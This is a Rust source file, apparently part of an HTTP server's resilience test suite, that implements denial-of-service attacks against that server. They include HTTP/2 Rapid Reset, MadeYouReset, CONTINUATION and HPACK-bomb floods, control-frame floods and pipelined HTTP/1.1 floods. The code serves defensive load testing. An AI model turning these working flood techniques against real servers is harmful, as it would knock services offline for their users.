//! Attacks that make the server work, at up to 4 MiB per second and attacker.

use tidegate_frame::ErrorCode;
use tidegate_testkit::wire::{self, Raw};

use super::{INITIAL_WINDOW, fields};
use crate::peer::{Attacker, PAUSE, Peer};

/// How many times `frames` are sent at once.
const BATCH: u32 = 100;

pub(super) fn pipelined_http1(attacker: &mut Attacker) {
    let requests = b"GET /small HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(400);
    let open = |attacker: &mut Attacker| attacker.connect(attacker.server);
    pipelined(attacker, 24, open, |_| requests.clone());
}

pub(super) fn pipelined_http2(attacker: &mut Attacker) {
    let open = |attacker: &mut Attacker| {
        let mut peer = attacker.connect_http2(&[(INITIAL_WINDOW, (1 << 31) - 1)])?;
        attacker.send(
            &mut peer,
            &wire::window_update(0, (1 << 31) - 65_536).to_bytes(),
        );
        Some(peer)
    };
    pipelined(attacker, 8, open, |first| {
        let ids = (first..).step_by(2).take(200);
        ids.flat_map(|id| get(id, "/small").to_bytes()).collect()
    });
}

/// Opens connections that send as long as the server reads, and that read 4 KB per batch.
fn pipelined(
    attacker: &mut Attacker,
    connections: usize,
    mut open: impl FnMut(&mut Attacker) -> Option<Peer>,
    batch: impl Fn(u32) -> Vec<u8>,
) {
    let mut peers: Vec<_> = (0..connections)
        .filter_map(|_| open(attacker).map(|peer| (peer, 1)))
        .collect();
    while !attacker.is_over() && !peers.is_empty() {
        for (peer, next) in &mut peers {
            if attacker.send(peer, &batch(*next)) {
                *next += 400;
            }
            for _ in 0..64 {
                peer.sip(64);
            }
        }
        std::thread::sleep(PAUSE);
    }
    attacker.close_all(peers.into_iter().map(|(peer, _)| peer));
}

pub(super) fn cancelled(attacker: &mut Attacker) {
    while !attacker.is_over() {
        let Some(mut peer) = attacker.connect_http2(&[]) else {
            continue;
        };
        for index in 0..90 {
            let id = index * 2 + 1;
            attacker.send(&mut peer, &get(id, "/proxied/large").to_bytes());
        }
        std::thread::sleep(PAUSE * 5);
        for index in 0..90 {
            let reset = wire::rst_stream(index * 2 + 1, ErrorCode::CANCEL);
            attacker.send(&mut peer, &reset.to_bytes());
        }
        attacker.pace();
        attacker.close(peer);
    }
}

pub(super) fn rapid_reset(attacker: &mut Attacker) {
    flood(attacker, |id| {
        [get(id, "/small"), wire::rst_stream(id, ErrorCode::CANCEL)]
    });
}

pub(super) fn made_you_reset(attacker: &mut Attacker) {
    flood(attacker, |id| {
        [get(id, "/large"), wire::window_update(id, 0)]
    });
}

pub(super) fn malformed(attacker: &mut Attacker) {
    flood(attacker, |id| {
        let fields = wire::with(wire::GET, &[("connection", "close")]);
        [wire::headers(id, &fields).end()]
    });
}

pub(super) fn continuation(attacker: &mut Attacker) {
    flood(attacker, |id| match id {
        1 => [wire::post(1).unfinished()],
        _ => [wire::frame(9, 0, 1, vec![0x82; 1024])],
    });
}

pub(super) fn hpack_bomb(attacker: &mut Attacker) {
    flood(attacker, |id| {
        let mut block = wire::block(&fields("GET", "/small"));
        if id == 1 {
            block.extend_from_slice(&[0x40, 1, b'x', 127, 0xa1, 0x1e]);
            block.extend_from_slice(&[b'v'; 4_000]);
        }
        block.extend_from_slice(&[0x80 | 62; 30]);
        [wire::headers_block(id, block).end()]
    });
}

pub(super) fn field_bomb(attacker: &mut Attacker) {
    flood(attacker, |id| {
        let mut block = wire::block(&fields("GET", "/small"));
        // `accept-encoding: gzip, deflate` of the static table.
        block.extend_from_slice(&[0x80 | 16; 900]);
        [wire::headers_block(id, block).end()]
    });
}

pub(super) fn ping(attacker: &mut Attacker) {
    flood(attacker, |_| [wire::ping(b"tidegate")]);
}

pub(super) fn settings(attacker: &mut Attacker) {
    flood(attacker, |id| {
        [wire::settings(&[(INITIAL_WINDOW, 65_535 + id % 2)])]
    });
}

pub(super) fn priority(attacker: &mut Attacker) {
    flood(attacker, |id| [wire::priority(id, 0, false, 16)]);
}

pub(super) fn priority_update(attacker: &mut Attacker) {
    flood(attacker, |id| [wire::priority_update(id, "u=1")]);
}

pub(super) fn window_update(attacker: &mut Attacker) {
    flood(attacker, |id| match id {
        1 => [get(1, "/large")],
        _ => [wire::window_update(0, 1)],
    });
}

pub(super) fn empty_data(attacker: &mut Attacker) {
    flood(attacker, |id| match id {
        1 => [wire::headers(1, &fields("POST", "/upload"))],
        _ => [wire::data(1, b"")],
    });
}

pub(super) fn goaway(attacker: &mut Attacker) {
    flood(attacker, |id| match id {
        ..2_000 => [wire::headers(id, &fields("POST", "/upload"))],
        _ => [wire::goaway(0, ErrorCode::NO_ERROR)],
    });
}

pub(super) fn unknown(attacker: &mut Attacker) {
    flood(attacker, |_| [wire::frame(0xfa, 0, 0, *b"?")]);
}

pub(super) fn dead_streams(attacker: &mut Attacker) {
    flood(attacker, |id| match id {
        1 => [get(1, "/small"), wire::ping(b"tidegate")],
        _ => [
            wire::window_update(1, 1),
            wire::rst_stream(1, ErrorCode::CANCEL),
        ],
    });
}

fn get(id: u32, path: &str) -> Raw {
    wire::headers(id, &fields("GET", path)).end()
}

/// Sends the `frames` for each stream identifier, in batches, as long as the attack lasts. A
/// connection that the server ends is counted, and replaced by another.
fn flood<const N: usize>(attacker: &mut Attacker, frames: impl Fn(u32) -> [Raw; N]) {
    while !attacker.is_over() {
        let Some(mut peer) = attacker.connect_http2(&[(INITIAL_WINDOW, 0)]) else {
            continue;
        };
        let mut id = 1;
        while peer.is_open() && !attacker.is_over() {
            let mut batch = Vec::new();
            for _ in 0..BATCH {
                for frame in frames(id) {
                    batch.extend_from_slice(&frame.to_bytes());
                }
                id += 2;
            }
            let mut is_sent = attacker.send(&mut peer, &batch);
            while !is_sent && peer.is_open() && !attacker.is_over() {
                // The server is delaying the attacker.
                std::thread::sleep(PAUSE);
                is_sent = attacker.send(&mut peer, &[]);
            }
            attacker.pace();
        }
        attacker.close(peer);
    }
}
